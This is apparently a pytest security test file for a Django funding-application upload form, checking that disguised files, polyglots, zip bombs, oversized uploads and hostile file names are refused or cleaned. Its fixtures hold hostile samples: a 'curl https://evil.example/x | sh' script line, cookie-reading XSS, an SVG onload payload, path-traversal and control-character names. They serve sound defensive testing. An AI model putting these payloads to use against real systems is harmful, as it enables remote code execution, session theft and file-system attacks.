"""Hostile files sent through the public form: types that lie about
themselves, archives that unpack to gigabytes, too many or too big files,
and file names that try to climb out of storage or hide what they are.

Each ends in a message on the form, with the other answers and the good
files kept, nothing sent, and nothing stray left in private storage."""

import re
import types
import zipfile
import zlib

import pytest
from django.urls import reverse

from fund.applications import uploads
from fund.applications.models import Application, ApplicationDocument
from tests.security.helpers import (
    CONTENT_TYPES,
    GIB,
    PDF,
    assert_no_stray_files,
    docx_bomb,
    docx_bytes,
    has_error_page,
    make_zip,
    page_text,
    post_multipart,
    stored_files,
    upload,
    zip_bomb,
)
from tests.support.applying import apply, form_data, png, sent_applications

pytestmark = pytest.mark.django_db

EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 200 + b"This program cannot be run in DOS"
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SCRIPT = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'
JAR = make_zip([("META-INF/MANIFEST.MF", b"Main-Class: Evil\n"), ("Evil.class", b"\xca\xfe")])
RANDOM_ID = re.compile(r"^applications/[0-9a-f]{32}$")


def refused_as_not_real(response, name, ext):
    text = page_text(response)
    assert has_error_page(response)
    assert f"The file {name} is not a real {ext} file." in text


def answers_kept(response):
    text = page_text(response)
    assert 'value="Aire Valley Freedom Project"' in text
    assert "Survivors sit on our steering group." in text


# --- files that are not what their name says -------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "ext"),
    [
        ("accounts.pdf", EXE, "PDF"),
        ("accounts.pdf", HTML, "PDF"),
        ("accounts.pdf", SCRIPT, "PDF"),
        ("accounts.pdf", docx_bytes(), "PDF"),
        ("plan.docx", PDF, "DOCX"),
        ("plan.docx", JAR, "DOCX"),
        ("plan.docx", EXE, "DOCX"),
        ("photo.png", SVG, "PNG"),
        ("photo.jpg", HTML, "JPG"),
        # polyglots: one file that two programs read as two things
        ("plan.docx", PDF + docx_bytes(), "DOCX"),
        ("accounts.pdf", HTML + PDF, "PDF"),
        ("photo.png", EXE + png().read(), "PNG"),
    ],
)
def test_a_file_whose_content_is_not_its_type_is_refused_and_the_rest_kept(
    client, open_call, private_storage, name, content, ext
):
    response = apply(client, open_call, files={"documents": [upload(name, content), png()]})

    refused_as_not_real(response, name, ext)
    answers_kept(response)
    assert not sent_applications().exists()
    assert list(ApplicationDocument.objects.values_list("original_name", flat=True)) == [
        "photo.png"
    ]
    assert_no_stray_files(private_storage)


def test_a_pdf_with_html_after_its_header_is_only_ever_downloaded_never_shown(
    client, open_call, manager
):
    """Its first bytes make it a PDF, so it is accepted; staff get it as an
    attachment the browser may neither sniff nor run."""
    polyglot = PDF + HTML
    apply(client, open_call, files={"documents": [upload("accounts.pdf", polyglot)]})
    document = ApplicationDocument.objects.get()
    client.force_login(manager)

    response = client.get(reverse("applications:document", args=[document.pk]))

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]
    assert b"".join(response.streaming_content) == polyglot
    response.close()


# --- archives that unpack to gigabytes ----------------------------------------------


@pytest.fixture
def inflated(monkeypatch):
    """Counts the bytes the upload check unpacks, to show it stops early."""
    counted = []
    real = zlib.decompressobj

    class Counting:
        def __init__(self, *args):
            self.inflater = real(*args)

        def decompress(self, data, max_length=0):
            out = self.inflater.decompress(data, max_length)
            counted.append(len(out))
            return out

        def __getattr__(self, name):
            return getattr(self.inflater, name)

    counting_zlib = types.SimpleNamespace(**vars(zlib))
    counting_zlib.decompressobj = Counting
    monkeypatch.setattr(uploads, "zlib", counting_zlib)
    return counted


def test_a_docx_that_unpacks_to_gigabytes_is_refused_without_unpacking_it(
    client, open_call, private_storage, inflated
):
    bomb = docx_bomb(unpacked=2 * GIB)
    assert len(bomb) < 3 * 1024 * 1024  # small enough to pass the size limit
    archive = zipfile.ZipFile(upload("plan.docx", bomb))
    assert sum(member.file_size for member in archive.infolist()) > 2 * GIB

    response = apply(client, open_call, files={"documents": [upload("plan.docx", bomb), png()]})

    assert has_error_page(response)
    assert (
        "The file plan.docx unpacks to more than 200.0\xa0MB, which is too much for us to open "
        "safely." in page_text(response)
    )
    answers_kept(response)
    assert sum(inflated) == 0  # its own headers gave it away
    assert not sent_applications().exists()
    assert list(ApplicationDocument.objects.values_list("original_name", flat=True)) == [
        "photo.png"
    ]
    assert_no_stray_files(private_storage)


def test_an_archive_that_lies_about_its_size_is_unpacked_only_as_far_as_the_lie(
    client, open_call, private_storage, inflated
):
    """Its headers say the big part is 1,000 bytes, with the checksum of 1,000
    zeros; it inflates to 2 GiB. (Python's zipfile reads it without
    complaint, inflating a gigabyte in memory on the way.)"""
    liar = docx_bomb(unpacked=2 * GIB, declared=1000)
    members = zipfile.ZipFile(upload("plan.docx", liar)).infolist()
    assert [member.file_size for member in members][-1] == 1000

    response = apply(client, open_call, files={"documents": [upload("plan.docx", liar)]})

    assert "The file plan.docx unpacks to more than" in page_text(response)
    assert sum(inflated) <= 1000 + 64 * 1024 + 200  # the lie, one step, the small parts
    assert not ApplicationDocument.objects.exists()
    assert_no_stray_files(private_storage)


def test_an_xlsx_bomb_is_refused_too(client, open_call):
    bomb = zip_bomb(
        parts=[("[Content_Types].xml", CONTENT_TYPES), ("xl/workbook.xml", b"<workbook/>")],
        bomb_name="xl/worksheets/sheet1.xml",
        unpacked=1 * GIB,
    )

    response = apply(client, open_call, files={"documents": [upload("budget.xlsx", bomb)]})

    assert "The file budget.xlsx unpacks to more than 200.0\xa0MB" in page_text(response)
    assert not ApplicationDocument.objects.exists()


def test_the_unpacked_limit_follows_the_setting(settings):
    settings.FUND_UPLOAD_MAX_UNPACKED_BYTES = 10_000
    content = make_zip(
        [("[Content_Types].xml", CONTENT_TYPES), ("word/document.xml", b"<w/>" * 5000)]
    )

    with pytest.raises(uploads.ValidationError) as error:
        uploads.check_file(upload("plan.docx", content))

    assert error.value.messages[0].startswith(
        "The file plan.docx unpacks to more than 9.8\xa0KB, which is too much"
    )


def test_a_real_docx_with_a_large_compressible_part_is_accepted(client, open_call):
    content = make_zip(
        [
            ("[Content_Types].xml", CONTENT_TYPES),
            ("word/document.xml", b"<w:p>Survivors shape the project.</w:p>" * 100_000),
        ]
    )

    response = apply(client, open_call, files={"documents": [upload("plan.docx", content)]})

    assert "Application sent" in page_text(response)
    assert ApplicationDocument.objects.get().original_name == "plan.docx"


def test_a_damaged_archive_is_refused_as_not_a_real_document(client, open_call):
    content = bytearray(
        make_zip(
            [
                ("[Content_Types].xml", CONTENT_TYPES),
                ("word/document.xml", b"<w:p>Some text of our plan.</w:p>" * 200),
            ]
        )
    )
    start = content.index(b"word/document.xml") + len(b"word/document.xml")
    content[start + 5 : start + 25] = b"\xff" * 20  # inside the compressed text

    response = apply(client, open_call, files={"documents": [upload("plan.docx", bytes(content))]})

    refused_as_not_real(response, "plan.docx", "DOCX")
    assert not ApplicationDocument.objects.exists()


# --- too big, too many ------------------------------------------------------------------


def test_an_oversized_file_is_refused_and_the_others_kept(
    client, open_call, settings, private_storage
):
    settings.FUND_UPLOAD_MAX_FILE_BYTES = 4096
    big = upload("big.pdf", PDF + b"0" * 8192)

    response = apply(client, open_call, files={"documents": [big, png()]})

    assert "The file big.pdf is 8.1\xa0KB. Each file must be 4.0\xa0KB or smaller." in (
        page_text(response)
    )
    answers_kept(response)
    assert list(ApplicationDocument.objects.values_list("original_name", flat=True)) == [
        "photo.png"
    ]
    assert_no_stray_files(private_storage)


def test_more_files_than_the_limit_are_refused_and_none_of_them_kept(
    client, open_call, settings, private_storage
):
    count = settings.FUND_UPLOAD_MAX_FILES + 1
    files = [upload(f"{n}.pdf", PDF + str(n).encode()) for n in range(count)]

    response = apply(client, open_call, files={"documents": files})

    assert f"You can send up to {settings.FUND_UPLOAD_MAX_FILES} files in all." in (
        page_text(response)
    )
    answers_kept(response)
    assert not ApplicationDocument.objects.exists()
    assert stored_files(private_storage) == []


def test_more_files_than_django_will_read_get_a_page_in_plain_words(
    client, open_call, settings, private_storage
):
    files = [upload(f"{n}.pdf", PDF) for n in range(settings.DATA_UPLOAD_MAX_NUMBER_FILES + 1)]

    response = client.post(open_call.url, {**form_data(open_call), "documents": files})

    assert response.status_code == 400
    text = page_text(response)
    assert "Sorry, we could not accept what you sent" in text
    assert "send fewer files at a time" in text
    assert not Application.objects.exists()
    assert stored_files(private_storage) == []


# --- file names -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("sent_name", "shown_name"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("/etc/cron.d/evil.pdf", "evil.pdf"),
        ("..\\..\\Windows\\System32\\evil.pdf", "evil.pdf"),
        ("C:\\Users\\sam\\Documents\\accounts.pdf", "accounts.pdf"),
        ("&#46;&#46;&#47;&#46;&#46;&#47;secret.pdf", "secret.pdf"),
        ("bud\x00get.pdf", "budget.pdf"),
        ("budget\x1b[31m.pdf", "budget[31m.pdf"),
        ("report\u202efdp.exe.pdf", "reportfdp.exe.pdf"),
        ("zero\u200bwidth\u2066.pdf", "zerowidth.pdf"),
        ("a" * 400 + ".pdf", "a" * 251 + ".pdf"),
    ],
)
def test_a_hostile_file_name_is_stored_at_random_and_shown_cleaned(
    client, open_call, private_storage, tmp_path, sent_name, shown_name
):
    data = form_data(open_call)
    declarations = {key: data.pop(key) for key in ("declare_true", "declare_privacy")}

    response = post_multipart(client, open_call.url, data, files=[("documents", sent_name, PDF)])
    assert response.status_code == 302, page_text(response)
    check = client.get("/apply/check/")
    sent = client.post("/apply/check/", declarations, follow=True)

    document = ApplicationDocument.objects.get()
    assert document.application.status == "submitted"
    assert document.original_name == shown_name
    assert RANDOM_ID.match(document.file.name)
    # the file is in private storage, and nothing was written anywhere else
    assert stored_files(private_storage) == [document.file.name]
    assert [
        p for p in tmp_path.rglob("*") if p.is_file() and private_storage not in p.parents
    ] == []
    for response in (check, sent):
        text = page_text(response)
        assert response.status_code == 200
        if response is check:
            assert shown_name in text
        for hidden in ("\x00", "\x1b", "\u202e", "\u200b", "\u2066", "../", "\\"):
            assert hidden not in text


def test_a_file_name_longer_than_django_will_read_gets_a_page_in_plain_words(
    client, open_call, private_storage
):
    response = post_multipart(
        client, open_call.url, form_data(open_call), files=[("documents", "a" * 2000 + ".pdf", PDF)]
    )

    assert response.status_code == 400
    assert "Sorry, we could not accept what you sent" in page_text(response)
    assert not Application.objects.exists()
    assert stored_files(private_storage) == []
